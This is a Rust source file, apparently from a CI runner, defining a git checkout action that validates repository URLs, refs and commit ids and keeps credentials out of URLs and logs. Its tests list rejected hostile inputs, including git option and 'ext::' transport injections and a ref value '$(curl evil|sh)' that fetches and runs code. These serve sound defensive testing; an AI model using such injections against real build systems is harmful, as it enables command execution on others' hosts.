//! `git/checkout`: the code a run was told about (a webhook's ref and sha), fetched into the
//! workspace by the worker, with credentials from secrets that no step sees.

use serde::de::Error as _;
use serde::{Deserialize, Deserializer, Serialize};

use super::docker::WorkspacePath;
use super::{ActionDef, Val};

pub struct Checkout;

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct CheckoutWith {
    /// `https://`, `http://`, `git://`, `ssh://` or `user@host:path`.
    pub repository: Val<GitUrl>,
    /// A branch, a tag or a whole ref (`refs/heads/main`); empty or absent: the remote's HEAD.
    #[serde(rename = "ref")]
    pub git_ref: Option<Val<GitRef>>,
    /// The commit to check out (40 or 64 hex digits); empty or absent: the ref's tip.
    pub sha: Option<Val<GitSha>>,
    /// A folder of the workspace to check out into (default: the workspace itself); it must be
    /// empty or absent.
    pub path: Option<Val<WorkspacePath>>,
    /// How many commits of history (default 1); 0 for all of it.
    pub depth: Option<Val<u32>>,
    /// An SSH private key (a deploy key), for `ssh://` and `user@host:path` URLs.
    pub ssh_key: Option<Val<String>>,
    /// The server's host keys (`known_hosts` lines); without them the key the server shows
    /// is taken (and the log says so).
    pub known_hosts: Option<Val<String>>,
    /// An HTTPS token (sent as the password of HTTP basic auth, never in the URL).
    pub token: Option<Val<String>>,
    /// The user name sent with `token` (default `x-access-token`, which GitHub, Gitea and
    /// GitLab accept).
    pub username: Option<Val<String>>,
}

impl CheckoutWith {
    pub const DEFAULT_DEPTH: u32 = 1;
    pub const DEFAULT_USERNAME: &'static str = "x-access-token";
}

#[derive(Debug, Default, Serialize)]
pub struct CheckoutOutputs {
    /// The commit checked out.
    pub sha: String,
    /// What was fetched: the ref, or `HEAD`.
    #[serde(rename = "ref")]
    pub git_ref: String,
}

impl ActionDef for Checkout {
    const NAME: &'static str = "git/checkout";
    const DOC: &'static str =
        "Fetch a repository's ref or commit into the workspace (shallow by default).";
    type With = CheckoutWith;
    type Outputs = CheckoutOutputs;
    const OUTPUTS: &'static [&'static str] = &["sha", "ref"];
}

/// A repository URL git may fetch from: no options in disguise, no local paths, no password
/// in it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GitUrl(pub String);

impl GitUrl {
    pub fn parse(text: &str) -> Result<GitUrl, String> {
        if text.is_empty()
            || text.starts_with('-')
            || text.chars().any(|c| c.is_whitespace() || c.is_control())
        {
            return Err(format!("`{text}` is not a repository URL"));
        }
        let scheme = text.split_once("://").map(|(s, _)| s.to_ascii_lowercase());
        match scheme.as_deref() {
            Some("https" | "http") => {
                let rest = &text[text.find("://").map_or(0, |i| i + 3)..];
                let authority = rest.split('/').next().unwrap_or("");
                if authority.contains(':') && authority.contains('@') {
                    return Err(format!(
                        "`{text}` holds a password: give it as `token: ${{{{ secrets.NAME }}}}` instead"
                    ));
                }
                if authority.is_empty() {
                    return Err(format!("`{text}` has no host"));
                }
            }
            Some("git" | "ssh") => {}
            Some(other) => {
                return Err(format!(
                    "`{other}://` is not fetched: use https://, http://, git://, ssh:// or user@host:path"
                ));
            }
            None => {
                // scp-like: user@host:path (a local path is refused).
                let Some((host, path)) = text.split_once(':') else {
                    return Err(format!(
                        "`{text}` is not a repository URL (https://, http://, git://, ssh:// or user@host:path)"
                    ));
                };
                if host.is_empty() || path.is_empty() || host.contains('/') || text.contains("::") {
                    return Err(format!("`{text}` is not a repository URL"));
                }
            }
        }
        Ok(GitUrl(text.to_string()))
    }

    /// The URL as the log shows it (without a user name).
    pub fn shown(&self) -> String {
        if let Some((scheme, rest)) = self.0.split_once("://") {
            let end = rest.find('/').unwrap_or(rest.len());
            if let Some(at) = rest[..end].rfind('@') {
                return format!("{scheme}://{}", &rest[at + 1..]);
            }
        }
        self.0.clone()
    }

    /// Whether git reaches it over SSH.
    pub fn is_ssh(&self) -> bool {
        self.0.starts_with("ssh://") || !self.0.contains("://")
    }

    pub fn is_http(&self) -> bool {
        let lower = self.0.to_ascii_lowercase();
        lower.starts_with("https://") || lower.starts_with("http://")
    }
}

impl<'de> Deserialize<'de> for GitUrl {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        GitUrl::parse(&String::deserialize(d)?).map_err(D::Error::custom)
    }
}

/// A ref to fetch (`main`, `v1.2`, `refs/pull/7/head`), or empty for the remote's HEAD.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GitRef(pub String);

impl GitRef {
    pub fn parse(text: &str) -> Result<GitRef, String> {
        let bad = text.starts_with('-')
            || text.starts_with('/')
            || text.ends_with('/')
            || text.ends_with(".lock")
            || text.contains("..")
            || text.contains("//")
            || text.contains("@{")
            || text.len() > 255
            || text
                .chars()
                .any(|c| c.is_control() || c.is_whitespace() || "~^:?*[\\".contains(c));
        if bad {
            return Err(format!("`{text}` is not a git ref"));
        }
        Ok(GitRef(text.to_string()))
    }
}

impl<'de> Deserialize<'de> for GitRef {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        GitRef::parse(&String::deserialize(d)?).map_err(D::Error::custom)
    }
}

/// A whole commit id (SHA-1 or SHA-256), or empty for none.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GitSha(pub String);

impl<'de> Deserialize<'de> for GitSha {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        let text = String::deserialize(d)?;
        let ok = text.is_empty()
            || (matches!(text.len(), 40 | 64) && text.chars().all(|c| c.is_ascii_hexdigit()));
        if ok {
            Ok(GitSha(text.to_ascii_lowercase()))
        } else {
            Err(D::Error::custom(format!(
                "`{text}` is not a whole commit id (40 or 64 hex digits)"
            )))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_that_could_be_options_paths_or_passwords_are_refused() {
        for ok in [
            "https://github.com/o/r.git",
            "http://127.0.0.1:9418/r",
            "git://127.0.0.1/r.git",
            "ssh://git@127.0.0.1:2222/srv/r.git",
            "git@github.com:o/r.git",
        ] {
            assert!(GitUrl::parse(ok).is_ok(), "{ok}");
        }
        for bad in [
            "-uhttps://x",
            "--upload-pack=touch /tmp/x",
            "file:///var/lib/skiff",
            "/var/lib/skiff",
            "ext::sh -c touch% /tmp/x",
            "https://user:secret@github.com/o/r",
            "https:// x",
            "",
        ] {
            assert!(GitUrl::parse(bad).is_err(), "{bad}");
        }
        assert_eq!(
            GitUrl::parse("ssh://git@h:22/r").expect("ok").shown(),
            "ssh://h:22/r"
        );
    }

    #[test]
    fn refs_are_refs() {
        for ok in [
            "main",
            "refs/heads/main",
            "v1.2.0",
            "refs/pull/7/head",
            "feature/x-y",
        ] {
            assert!(GitRef::parse(ok).is_ok(), "{ok}");
        }
        for bad in [
            "-f",
            "a..b",
            "$(curl evil|sh)",
            "a b",
            "x:y",
            "ref^",
            "/x",
            "x.lock",
        ] {
            assert!(GitRef::parse(bad).is_err(), "{bad}");
        }
    }
}
